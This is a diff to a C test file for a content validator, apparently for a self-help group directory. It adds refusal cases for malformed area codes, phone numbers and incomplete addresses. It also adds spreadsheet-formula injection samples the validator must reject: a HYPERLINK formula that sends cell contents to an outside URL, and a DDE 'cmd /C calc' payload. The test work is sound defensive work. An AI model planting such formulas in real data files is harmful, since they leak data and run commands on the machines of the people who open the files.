@@ -249,6 +249,8 @@ static int refusals(const struct content_file *file, int col, struct refusal *ou
 		{RULE_INT, "'1.5'"}, {RULE_PHONE, "'23125 100'"}, {RULE_EMAIL, "'nobody'"},
 		{RULE_WEB, "'htp://example.org'"}, {RULE_POSTCODE, "'2020'"}, {RULE_LAT, "'91'"},
 		{RULE_LON, "'181'"}, {RULE_BOOL, "'2'"}, {RULE_DATE, "'2026-02-30'"},
+		{RULE_AREAS, "'0011x'"}, {RULE_AREAS, "'00130-00120'"}, {RULE_SERVICE_PHONE, "'23125 100'"},
+		{RULE_SERVICE_PHONE, "'11'"},
 	};
 	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
 		if (bad[i].rule != f->rule)
@@ -266,6 +268,24 @@ static int refusals(const struct content_file *file, int col, struct refusal *ou
 	if (f->rule == RULE_SLUG) {
 		text_of(expr, sizeof expr, LIMIT_SLUG + 1, "a");
 		set_value(&out[n++], file, col, expr, "too long");
+	}
+	/* A spreadsheet formula (issue 12): refused in every text, by build
+	 * and by check, for the reason the rule gives. */
+	static const struct {
+		bool email;
+		const char *value;
+	} formulas[] = {{false, "'=HYPERLINK(\"https://example.org/?\"&A1)'"}, {false, "'-2+3+cmd|'' /C calc''!A0'"},
+			{true, "'=x@example.org'"}};
+	for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
+		bool text = f->rule == RULE_TEXT || f->rule == RULE_LINE;
+		if (formulas[i].email ? f->rule != RULE_EMAIL : !text)
+			continue;
+		struct refusal *c = &out[n++];
+		set_value(c, file, col, formulas[i].value, "a spreadsheet formula");
+		snprintf(c->build_a, sizeof c->build_a, "%s", c->build_b);
+		snprintf(c->build_b, sizeof c->build_b, "starts like a spreadsheet formula");
+		snprintf(c->check_a, sizeof c->check_a, "%s", c->check_b);
+		snprintf(c->check_b, sizeof c->check_b, "starts like a spreadsheet formula");
 	}
 	if (file == &meta_settings && strcmp(f->name, "languages") == 0) {
 		set_value(&out[n], file, col, "'deutsch'", "not a code");
@@ -385,11 +405,20 @@ static int special_refusals(struct refusal *out)
 				      .storable = true, .check_a = "error: contact_point 1"};
 		snprintf(c->what, sizeof c->what, "contact_points.csv %s without the other", coordinate[i]);
 		snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET %s = '' WHERE rowid = 1", coordinate[i]);
-		snprintf(c->build_b, sizeof c->build_b, ":%d: error: %s: is empty, but the other coordinate is given",
-			 9 + i, coordinate[i]);
+		snprintf(c->build_b, sizeof c->build_b, ":%d: error: %s: is empty, but %s is not (give lat and lon"
+			 " together, or none of them)", 9 + i, coordinate[i], coordinate[1 - i]);
 		snprintf(c->db_sql, sizeof c->db_sql, "UPDATE contact_point SET %s = NULL WHERE id = 1", coordinate[i]);
-		snprintf(c->check_b, sizeof c->check_b, "%s is empty, but the other coordinate is given", coordinate[i]);
+		snprintf(c->check_b, sizeof c->check_b, "%s is empty, but %s is not", coordinate[i], coordinate[1 - i]);
 	}
+
+	/* A meeting place's address: all three parts or none. */
+	c = &out[n++];
+	*c = (struct refusal){.what = "groups.csv town without the rest", .csv_file = "groups.csv",
+			      .csv_sql = "UPDATE t SET street = '', postcode = '' WHERE rowid = 1",
+			      .build_a = "groups.csv:", .build_b = ":8: error: street: is empty, but town is not",
+			      .db_sql = "UPDATE self_help_group SET street = '', postcode = NULL WHERE id = 10",
+			      .storable = true, .check_a = "error: self_help_group 10",
+			      .check_b = "street is empty, but town is not (give street, postcode and town together"};
 
 	/* More rows than the kiosk lists. */
 	c = &out[n++];
@@ -491,6 +520,8 @@ FILE_TEST(group_texts, FILE_GROUP_TEXTS)
 FILE_TEST(pages, FILE_PAGES)
 FILE_TEST(page_texts, FILE_PAGE_TEXTS)
 FILE_TEST(postcodes, FILE_POSTCODES)
+FILE_TEST(services, FILE_SERVICES)
+FILE_TEST(service_texts, FILE_SERVICE_TEXTS)
 
 LEAKFREE_TEST(fields, meta)
 {
